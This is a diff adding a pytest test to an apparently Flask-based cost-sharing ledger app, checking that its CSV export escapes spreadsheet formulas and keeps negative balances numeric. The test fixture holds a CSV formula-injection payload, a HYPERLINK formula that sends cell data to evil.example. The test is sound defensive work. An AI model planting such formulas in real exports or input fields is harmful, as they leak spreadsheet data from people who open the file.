@@ -267,3 +267,23 @@ def test_the_ledger_page_and_panel_in_swedish(admin: Caller, story: Story) -> No
     assert bad.status_code == 200 and 'aria-invalid="true"' in bad.get_data(as_text=True)
     partnership = admin.get(f"/partnerships/{story.partnership_id}").get_data(as_text=True)
     assert "Riskfördelning" in partnership and "125\xa0880,00\xa0kr" in partnership
+
+
+def test_the_csv_neutralises_formulas_and_keeps_negative_amounts_numbers(
+    admin: Caller, service: Samverkan, flask_app: Flask
+) -> None:
+    """A name a spreadsheet would run is written as text; a negative balance stays a number."""
+    team = start_team(service)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
+    company = team.join(service, evil, "partner", "company")
+    shares = {str(team.region.organisation_id): "50", str(company.organisation_id): "50"}
+    aid = service.make_agreement(team.region, team.partnership_id, "@SUM(1)", "SEK", shares).id
+    service.incur_cost(team.region, aid, "1000.00", "Lokal")
+    projections_of(flask_app).catch_up()
+    answer = admin.get(f"/api/v1/agreements/{aid}/ledger.csv")
+    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
+    theirs = next(row for row in rows if row["organisation_id"] == str(company.organisation_id))
+    assert theirs["organisation"] == "'" + evil
+    assert theirs["agreement"] == "'@SUM(1)"
+    assert theirs["balance"] == "-500.00"
+    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row.values())
